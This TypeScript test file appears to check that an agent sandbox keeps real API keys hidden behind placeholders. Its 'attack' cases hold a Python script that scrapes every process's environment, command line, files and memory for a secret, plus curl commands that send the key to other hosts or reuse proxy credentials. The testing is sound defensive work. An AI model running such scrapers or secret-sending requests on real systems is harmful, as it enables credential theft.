// The real value behind a credential placeholder: the sandbox holds `aisdkhc_…`, srt's proxy swaps
// it in on the way to the credential's host only. The agent looks for the real value everywhere it
// can, and sends the placeholder wherever it can.
import { execFileSync } from 'node:child_process';
import { createServer as createHttpServer, type IncomingMessage, type ServerResponse } from 'node:http';
import { createServer as createHttpsServer } from 'node:https';
import type { AddressInfo, Server } from 'node:net';
import { join } from 'node:path';

import { afterAll, beforeAll, expect } from 'vitest';

import type { SrtNetworkSandboxSession } from '../sandbox/srt-view.js';
import { securityCategory } from './record.js';
import { trustedTestCertificate } from '../fence/fence-test-support.js';
import { brief, marker, SandboxPool, scratchDirectory } from './support.js';

const { attack } = securityCategory('credentials');

let scratch: Awaited<ReturnType<typeof scratchDirectory>>;
let pool: SandboxPool;
let untrust: () => void;
const servers: Server[] = [];
/** What each server received: its name, the x-api-key header, the body. */
const received: Array<{ server: string; header: string | undefined; body: string }> = [];
let credentialPort = 0;
let otherPort = 0;
let otherNamePort = 0;
let plainPort = 0;

function recorder(name: string) {
  return (req: IncomingMessage, res: ServerResponse) => {
    let body = '';
    req.setEncoding('utf8').on('data', (chunk: string) => (body += chunk));
    req.on('end', () => {
      received.push({ server: name, header: req.headers['x-api-key'] as string | undefined, body });
      res.end('ok'); // never echo: the answer must not carry the value back either
    });
  };
}

async function listen(server: Server, address = '127.0.0.1'): Promise<number> {
  servers.push(server);
  await new Promise<void>(resolve => server.listen(0, address, resolve));
  return (server.address() as AddressInfo).port;
}

beforeAll(async () => {
  scratch = await scratchDirectory('credentials');
  pool = new SandboxPool(join(scratch.path, 'sandboxes'));
  // A test CA the host trusts (srt's proxy checks upstreams with Node's default trust).
  const trusted = trustedTestCertificate(join(scratch.path, 'tls'), ['127.0.0.1', '::1'], 'security CA');
  untrust = trusted.untrust;
  const certificate = { key: trusted.key, cert: trusted.cert };
  credentialPort = await listen(createHttpsServer(certificate, recorder('credential-host')));
  otherPort = await listen(createHttpsServer(certificate, recorder('other-port')));
  otherNamePort = await listen(createHttpsServer(certificate, recorder('other-https-host')), '::1');
  plainPort = await listen(createHttpServer(recorder('plain-http-host')));
});

afterAll(async () => {
  await pool.destroyAll();
  untrust();
  await Promise.all(servers.map(server => new Promise(resolve => server.close(resolve))));
  await scratch.remove();
});

/** A sandbox that may reach the four servers, with SECURITY_KEY brokered to the first. */
async function brokeringSandbox(
  extra: { env?: Record<string, string> } = {},
): Promise<SrtNetworkSandboxSession> {
  return pool.create({
    allowedDomains: [
      `127.0.0.1:${credentialPort}`,
      `127.0.0.1:${otherPort}`,
      `[::1]:${otherNamePort}`,
      `127.0.0.1:${plainPort}`,
    ],
    credentialVariables: { SECURITY_KEY: { host: `127.0.0.1:${credentialPort}` } },
    ...extra,
  });
}

const realValue = () => `sk-ant-real-${marker('secret')}`;

/**
 * Searches the sandbox's whole reach for `needle`: environments and command lines of every visible
 * process, the files it can write or that srt gave it, and the readable memory of every process it
 * may inspect. The needle travels reversed, so the search itself never holds it but in its own
 * memory, which it skips.
 */
const sweep = (needle: string) => `/usr/bin/python3 - '${[...needle].reverse().join('')}' <<'PY'
import os, re, sys
needle = sys.argv[1][::-1].encode()
me = int(os.readlink('/proc/self'))  # /proc is the outer PID namespace's: getpid() is not its number
pids = [int(p) for p in os.listdir('/proc') if p.isdigit() and int(p) != me]
def grab(path):
    try:
        with open(path, 'rb') as f:
            return f.read()
    except OSError:
        return b''
print('env:%d' % sum(needle in v for v in os.environb.values()))
print('environ:%d' % sum(needle in grab('/proc/%d/environ' % p) for p in pids))
print('cmdline:%d' % sum(needle in grab('/proc/%d/cmdline' % p) for p in pids))
files = 0
for root in {os.environ.get('HOME', '/'), '/tmp', os.getcwd(), '/var/tmp', '/dev/shm', '/run'}:
    for base, dirs, names in os.walk(root):
        for name in names:
            path = os.path.join(base, name)
            try:
                if os.path.isfile(path) and os.path.getsize(path) < (16 << 20) and needle in grab(path):
                    files += 1
            except OSError:
                pass
print('files:%d' % files)
hits = 0
for pid in pids:
    try:
        maps = open('/proc/%d/maps' % pid).read().splitlines()
        mem = open('/proc/%d/mem' % pid, 'rb', 0)
    except OSError:
        continue
    for line in maps:
        m = re.match(r'([0-9a-f]+)-([0-9a-f]+) r', line)
        if not m:
            continue
        start, end = int(m.group(1), 16), int(m.group(2), 16)
        try:
            mem.seek(start)
            if needle in mem.read(min(end - start, 64 << 20)):
                hits += 1
        except (OSError, ValueError, OverflowError):
            pass
print('memory:%d' % hits)
PY`;

function counts(output: string): Record<string, number> {
  return Object.fromEntries(
    output
      .split('\n')
      .map(line => /^(env|environ|cmdline|files|memory):(\d+)$/.exec(line.trim()))
      .filter(match => match !== null)
      .map(match => [match[1]!, Number(match[2])]),
  );
}

attack(
  "find a command's real ANTHROPIC_API_KEY in env, /proc/*/environ, cmdlines, files, process memory",
  'not found: the command sees a placeholder',
  async () => {
    const real = realValue();
    const session = await pool.create();
    const result = await session.run({
      command: `echo "placeholder:$ANTHROPIC_API_KEY"; ${sweep(real)}`,
      env: { ANTHROPIC_API_KEY: real },
    });
    expect(result.stdout).toMatch(/placeholder:aisdkhc_/);
    expect(counts(result.stdout)).toEqual({ env: 0, environ: 0, cmdline: 0, files: 0, memory: 0 });
    return `0 hits (${brief(
      result.stdout
        .split('\n')
        .filter(l => /:\d+$/.test(l))
        .join(' '),
    )})`;
  },
);

attack(
  'find the real value of a sandbox-wide env credential (createSrtNetworkSandboxSession({ env }))',
  'not found: masked at start',
  async () => {
    const real = realValue();
    const session = await pool.create({ env: { ANTHROPIC_API_KEY: real } });
    const result = await session.run({ command: `echo "placeholder:$ANTHROPIC_API_KEY"; ${sweep(real)}` });
    expect(result.stdout).toMatch(/placeholder:aisdkhc_/);
    expect(counts(result.stdout)).toEqual({ env: 0, environ: 0, cmdline: 0, files: 0, memory: 0 });
    return '0 hits';
  },
);

attack(
  "read the sandbox's own sandbox.json, where a sandbox-wide env credential is kept",
  'refused: out of its reach',
  async () => {
    const real = realValue();
    const session = await pool.create({ env: { ANTHROPIC_API_KEY: real } });
    const settings = join(session.defaultWorkingDirectory, '..', '..', 'sandbox.json');
    const result = await session.run({ command: `cat ${settings}; grep -c sandboxId ${settings}` });
    expect(result.stdout).not.toContain(real);
    expect(result.stdout).not.toContain('"sandboxId"');
    // The host's copy keeps the real value (mode 0600), for resume: readable by the user only.
    const onDisk = execFileSync('/bin/bash', ['-c', `grep -l -- '${real}' ${settings}`], {
      encoding: 'utf8',
    });
    return `not readable inside: ${brief(result.stderr)}; the host copy keeps it (${onDisk.trim() ? '0600 file' : 'no'})`;
  },
);

for (const [label, server, url] of [
  [
    "an allowed host that is not the credential's host (HTTPS)",
    'other-https-host',
    () => `https://[::1]:${otherNamePort}/`,
  ],
  [
    "another allowed port of the credential's host (HTTPS)",
    'other-port',
    () => `https://127.0.0.1:${otherPort}/`,
  ],
] as const) {
  attack(`send the placeholder to ${label}`, 'refused, or that host receives the placeholder', async () => {
    const real = realValue();
    const session = await brokeringSandbox();
    const result = await session.run({
      command: `curl -sS -m 20 --noproxy '' -H "x-api-key: $SECURITY_KEY" -d "$SECURITY_KEY" ${url()}`,
      env: { SECURITY_KEY: real },
    });
    const got = received.filter(entry => entry.server === server).at(-1);
    // Either the request is refused (another port of the credential's host is closed while the
    // credential lives), or it arrives with the placeholder: never with the real value.
    if (result.stdout !== 'ok') {
      expect(got?.header ?? '').not.toBe(real);
      return `refused: ${brief(result.stderr || result.stdout)}`;
    }
    expect(got?.header, 'it received the real value (srt swaps by host name, whatever the port)').not.toBe(
      real,
    );
    expect(got?.header?.slice(0, 8)).toBe('aisdkhc_');
    expect(got?.body).not.toContain(real);
    return `it got ${got?.header?.slice(0, 12)}…`;
  });
}

attack(
  'send the placeholder over plain HTTP to an allowed host',
  'refused, or the host receives the placeholder',
  async () => {
    const real = realValue();
    const session = await brokeringSandbox();
    const result = await session.run({
      command: `curl -sS -m 20 --noproxy '' -H "x-api-key: $SECURITY_KEY" http://127.0.0.1:${plainPort}/`,
      env: { SECURITY_KEY: real },
    });
    const got = received.filter(entry => entry.server === 'plain-http-host').at(-1);
    // It is another port of the credential's host: closed while the credential lives, or, were it
    // open, given the placeholder only (srt swaps on TLS-terminated requests alone).
    if (result.stdout !== 'ok') {
      expect(got?.header ?? '').not.toBe(real);
      return `refused: ${brief(result.stderr || result.stdout)}`;
    }
    expect(got?.header).toMatch(/^aisdkhc_/);
    return `plain host got ${got?.header?.slice(0, 12)}…`;
  },
);

attack(
  "send the placeholder to the credential's host: swapped there only, never shown to the sandbox",
  'the host receives the real value; the sandbox sees only "ok"',
  async () => {
    const real = realValue();
    const session = await brokeringSandbox();
    const result = await session.run({
      command: `curl -sS -m 20 --noproxy '' -H "x-api-key: $SECURITY_KEY" https://127.0.0.1:${credentialPort}/; echo; ${sweep(real)}`,
      env: { SECURITY_KEY: real },
    });
    const got = received.filter(entry => entry.server === 'credential-host').at(-1);
    expect(got?.header).toBe(real);
    expect(counts(result.stdout)).toEqual({ env: 0, environ: 0, cmdline: 0, files: 0, memory: 0 });
    return 'swapped at the credential host; 0 hits inside';
  },
);

attack(
  'read the proxy credentials and use them to reach a host off the list',
  'refused by the allow list',
  async () => {
    const session = await pool.create({ allowedDomains: ['registry.npmjs.org'] });
    const result = await session.run({
      command: `curl -sS -o /dev/null -w '%{http_code}' -m 20 -x "$HTTPS_PROXY" https://example.com/ ; echo " rc=$?"`,
    });
    expect(result.stdout).not.toMatch(/^200/);
    return `proxy token is readable but only gives the allow list: ${brief(result.stdout + result.stderr)}`;
  },
);

attack(
  'a withdrawn placeholder (after release of a fork) is no longer swapped',
  'the host receives the placeholder',
  async () => {
    const real = realValue();
    const session = await brokeringSandbox();
    const fork = session.fork({ ports: [] });
    const probe = await fork.run({ command: 'echo -n $SECURITY_KEY', env: { SECURITY_KEY: real } });
    const placeholder = probe.stdout;
    await fork.release();
    const result = await session.run({
      command: `curl -sS -m 20 --noproxy '' -H "x-api-key: ${placeholder}" https://127.0.0.1:${credentialPort}/`,
    });
    const got = received.filter(entry => entry.server === 'credential-host').at(-1);
    expect(result.stdout).toBe('ok');
    expect(got?.header).toBe(placeholder);
    return 'no swap after release';
  },
);
